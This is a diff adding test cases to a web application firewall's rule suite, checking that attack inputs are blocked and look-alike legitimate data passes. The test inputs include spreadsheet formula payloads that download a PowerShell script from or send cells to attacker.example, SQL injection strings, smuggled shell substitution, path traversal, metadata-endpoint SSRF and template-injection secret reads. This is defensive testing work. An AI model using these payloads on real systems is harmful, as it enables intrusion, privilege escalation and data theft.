@@ -217,3 +217,81 @@ describe('round 4 (WAF-bypass techniques; business APIs)', () => {
     expect(pl2.inspect(upload('shell.php')).blocked).toBe(true);
   });
 });
+
+describe('round 5 (placements API traffic really has)', () => {
+  it('CSV injection: DDE and formulas that send cells to a URL; plain formulas are data', () => {
+    const csv = (body: string): InspectRequest => ({ method: 'POST', path: '/import', query: '', headers: { host: 'h', 'content-type': 'text/csv' }, body });
+    expect(ruleIds(pl2, csv("name,email\n=cmd|' /C calc'!A1,bob@example.com\n"))).toContain('csv.dde');
+    expect(ruleIds(pl2, jsonRequest('company', "+cmd|' /C powershell IEX(wget attacker.example/s.ps1)'!A0"))).toContain('csv.dde');
+    expect(ruleIds(pl2, jsonRequest('note', '=DDE("cmd";"/C calc";"!A0")A0'))).toContain('csv.dde');
+    expect(ruleIds(pl2, csv('region,revenue\nAPAC,=WEBSERVICE("http://attacker.example/?"&A2&B2)\n'))).toContain('csv.exfiltration');
+    expect(ruleIds(pl2, jsonRequest('name', '=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A2:E2)),"//a")'))).toContain('csv.exfiltration');
+    expect(passes(jsonRequest('formula', '=SUM(A1:A10)'))).toBe(true);
+    expect(passes(jsonRequest('formula', '=HYPERLINK("https://example.com/invoice/42","Invoice 42")'))).toBe(true);
+    expect(passes(jsonRequest('formula', '=IF(A1>10,"high","low")'))).toBe(true);
+    expect(passes(jsonRequest('text', "Tom's band | 'Live at the Roxy' ! great"))).toBe(true);
+  });
+
+  it("a multipart part's Content-Type that is not a media type is read", () => {
+    const part = (ct: string): InspectRequest => ({ method: 'POST', path: '/upload', query: '', headers: { host: 'h', 'content-type': 'multipart/form-data; boundary=b' }, body: `--b\r\nContent-Disposition: form-data; name="doc"; filename="scan.gif"\r\nContent-Type: ${ct}\r\n\r\nGIF89a;\r\n--b--\r\n` });
+    expect(pl2.inspect(part("image/gif' AND (SELECT 1 FROM (SELECT SLEEP(5))x) AND '1'='1")).blocked).toBe(true);
+    expect(pl2.inspect(part('audio/wav;$(sleep 5)')).blocked).toBe(true);
+    expect(passes(part('image/gif'))).toBe(true);
+  });
+
+  it('brackets in a query or form name nest parameters; they are not T-SQL identifier quotes', () => {
+    expect(ruleIds(pl2, { method: 'GET', path: '/invoices', query: 'order%5B%28SELECT%201%20FROM%20pg_sleep%285%29%29%5D=asc', headers: { host: 'h' } })).toContain('sqli.time-function');
+    expect(passes({ method: 'GET', path: '/invoices', query: 'filter%5Bstatus%5D%5Bin%5D=paid&sort%5Bcreated_at%5D=desc&page%5Bsize%5D=20', headers: { host: 'h' } })).toBe(true);
+  });
+
+  it("an upsert clause after an INSERT's values; Django settings in a template", () => {
+    expect(pl2.inspect(jsonRequest('email', "eve@example.net', 'x') ON DUPLICATE KEY UPDATE role='admin'-- -")).blocked).toBe(true);
+    expect(ruleIds(pl2, jsonRequest('value', '{{settings.SECRET_KEY}} {{settings.DATABASES}}'))).toContain('ssti.object-traversal');
+    expect(passes(jsonRequest('help', 'On duplicate key errors the import stops; update the row and retry.'))).toBe(true);
+  });
+});
+
+describe('round 5: false alarms in integrations, telemetry and developer tools', () => {
+  it('an ellipsis is not a dot-dot segment; `....//` still is', () => {
+    expect(passes(jsonRequest('machoFile', '.../AcmeShop.app/AcmeShop'))).toBe(true);
+    expect(passes(jsonRequest('message', 'No Activity found to handle Intent { act=VIEW dat=https://pay.example.com/... }'))).toBe(true);
+    expect(pl2.inspect(queryRequest('....//....//....//etc/passwd', 'file')).blocked).toBe(true);
+  });
+
+  it("SCIM's /.search endpoint; HLS master playlists; sys.path", () => {
+    expect(passes({ method: 'POST', path: '/scim/v2/.search', query: '', headers: { host: 'h', 'content-type': 'application/json' }, body: '{"filter":"userName sw \\"j\\""}' })).toBe(true);
+    expect(passes(jsonRequest('url', 'https://vod.example/hls/ep_1/master.m3u8?token=-LTKKlpSRG6Lg&exp=1715020000'))).toBe(true);
+    expect(ruleIds(pl2, queryRequest("1 UNION SELECT name FROM master..sysdatabases--"))).toContain('sqli.catalog');
+  });
+
+  it('jq, XPath and LIKE filters are their own languages', () => {
+    expect(passes(jsonRequest('filter', '.items[] | select(.status == "active" and (.tags | index("beta"))) | {id, name}'))).toBe(true);
+    expect(passes(jsonRequest('rating', "count(//div[@class='stars']/i[@class='full'])"))).toBe(true);
+    expect(passes(jsonRequest('where', "region = 'EU' AND name NOT LIKE '%test%'"))).toBe(true);
+    expect(pl2.inspect(queryRequest("x' or name like '%admin%' --")).blocked).toBe(true);
+  });
+
+  it('an exception class is reported, not run; a package alone names no class', () => {
+    expect(passes(jsonRequest('error', "java.lang.IllegalStateException: Migration didn't properly handle: orders"))).toBe(true);
+    expect(passes(jsonRequest('module', 'java.lang'))).toBe(true);
+    expect(q('java.lang.Runtime')).toContain('java.dangerous-class');
+    expect(q('java.Runtime')).toContain('java.dangerous-class');
+  });
+
+  it('stack-trace source locations are not URLs to fetch', () => {
+    expect(passes(jsonRequest('stack', 'TypeError: x\n    at ProductScreen (http://localhost:8081/index.bundle?platform=ios&dev=true:142311:42)\n    at renderWithHooks (index.bundle:23011:27)'))).toBe(true);
+    expect(passes(jsonRequest('context', 'The relevant error-causing widget was: Row Row:file:///Users/ci/builds/app/lib/tile.dart:71:16'))).toBe(true);
+    expect(pl2.inspect(jsonRequest('url', 'file:///etc/passwd')).blocked).toBe(true);
+    expect(pl2.inspect(jsonRequest('url', '(http://169.254.169.254/latest/meta-data/:1:1)')).blocked).toBe(true);
+  });
+
+  it('a logged prepared statement (placeholders) is a log line; an injection with it is still one', () => {
+    expect(passes(jsonRequest('message', 'SELECT * FROM `addresses` WHERE `user_id` = ? AND `deleted` = 0 ORDER BY id'))).toBe(true);
+    expect(passes(jsonRequest('db.statement', 'SELECT * FROM orders WHERE customer_id = $1 AND status = $2'))).toBe(true);
+    expect(pl2.inspect(queryRequest("1' UNION SELECT password FROM users WHERE id = ?--")).blocked).toBe(true);
+  });
+
+  it('a Sheets IMPORTRANGE reads a range in; it sends nothing out', () => {
+    expect(passes(jsonRequest('value', '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/1qA2L/edit","Raw!A1:F500")'))).toBe(true);
+  });
+});
